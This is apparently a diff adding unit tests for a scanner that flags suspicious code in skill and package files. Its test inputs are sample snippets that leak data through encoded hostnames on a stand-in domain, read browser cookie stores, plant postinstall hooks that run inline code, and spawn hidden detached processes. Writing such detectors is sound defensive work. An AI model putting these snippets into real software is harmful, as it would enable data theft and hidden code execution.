@@ -141,3 +141,82 @@ test.each([
 test("a document that speaks of look-alike hosts is none", () => {
   expect(chainNames("SKILL.md", "Some write https://g1thub.com for https://github.com, so look twice.")).toEqual([]);
 });
+
+const spelled = "data leaves as the name of a host";
+
+test.each([
+  [
+    "a label of Base32",
+    "paint.py",
+    python(
+      'label = base64.b32encode(text.encode()).decode().rstrip("=").lower()',
+      'socket.gethostbyname(f"{label}.palette.sample.dev")',
+    ),
+  ],
+  ["a label after a number", "paint.py", 'name = f"{n}.{binascii.hexlify(data)}.palette.sample.dev"'],
+  ["one of JavaScript", "paint.js", 'fetch(`https://${Buffer.from(text).toString("hex")}.palette.sample.dev/`)'],
+  ["one that is kept for later", "paint.js", 'const h = btoa(text); names.push(h + ".palette.sample.dev");'],
+])("data in the name of a host: %s", (_, path, text) => {
+  expect(chainNames(path, text)).toContain(spelled);
+});
+
+test.each([
+  ["the name of a file", "paint.py", 'name = f"{base64.b32encode(key)}.tar.gz"'],
+  ["a part of the path", "paint.py", 'url = f"https://palette.sample.dev/{base64.b64encode(text)}"'],
+  ["a digest", "paint.py", 'host = f"{hashlib.sha256(text).hexdigest()}.palette.sample.dev"'],
+  ["a name by chance", "paint.js", 'const h = crypto.randomBytes(8).toString("hex") + ".palette.sample.dev";'],
+])("is no data in the name of a host: %s", (_, path, text) => {
+  expect(chainNames(path, text)).not.toContain(spelled);
+});
+
+const store = "a store of a browser, a wallet or a key chain is read";
+test("three files of a browser's profile are its store, kinds of storage are not", () => {
+  const names = (...of: string[]) => chainNames("paint.py", `for name in (${JSON.stringify(of).slice(1, -1)}): x`);
+  expect(names("Local State", "Cookies", "Preferences")).toEqual([store]);
+  expect(names("Local Storage", "Session Storage", "Cookies")).toEqual([]);
+  expect(names("Local State", "Global State", "Props")).toEqual([]);
+});
+
+const planted = "a hook that runs at an installation is written into what a program makes";
+test("a hook with its code is planted where a program makes a package", () => {
+  const hook = (command: string) => `PACKAGE = {"name": "paint", "scripts": {"postinstall": "${command}"}}`;
+  expect(chainNames("make.py", hook(String.raw`node -e \"mix()\"`))).toEqual([planted]);
+  expect(chainNames("make.js", "const pkg = { scripts: { preinstall: 'sh -c \"mix\"' } };")).toEqual([planted]);
+  expect(chainNames("make.py", hook("node scripts/mix.js"))).toEqual([]);
+  expect(chainNames("make.py", hook("prisma generate"))).toEqual([]);
+  const own = JSON.stringify({ scripts: { postinstall: 'node -e "mix()"' } });
+  expect(chainNames("package.json", own)).toEqual([]);
+});
+
+test.each([
+  [
+    "Python",
+    "paint.py",
+    'import subprocess as s\ns.Popen(["python3", "-c", "import mixer"], stdout=s.DEVNULL, stderr=s.DEVNULL)',
+  ],
+  [
+    "the same interpreter",
+    "paint.py",
+    "subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)",
+  ],
+  ["Node.js", "paint.js", 'spawn(process.execPath, ["-e", code], { detached: true, stdio: "ignore" }).unref();'],
+])("code in a text that goes on unseen: %s", (_, path, text) => {
+  expect(chainNames(path, text)).toContain(silent);
+});
+
+test.each([
+  [
+    "a server without its log",
+    "paint.py",
+    'subprocess.Popen(["python3", "server.py"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+  ],
+  [
+    "whether a library is there",
+    "paint.py",
+    'subprocess.run([sys.executable, "-c", "import mixer"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+  ],
+  ["code whose words are read", "paint.py", 'subprocess.Popen(["python3", "-c", "mix()"], stdout=subprocess.PIPE)'],
+  ["a page that is opened", "paint.js", 'spawn("xdg-open", [page], { detached: true, stdio: "ignore" }).unref();'],
+])("is seen: %s", (_, path, text) => {
+  expect(chainNames(path, text)).toEqual([]);
+});
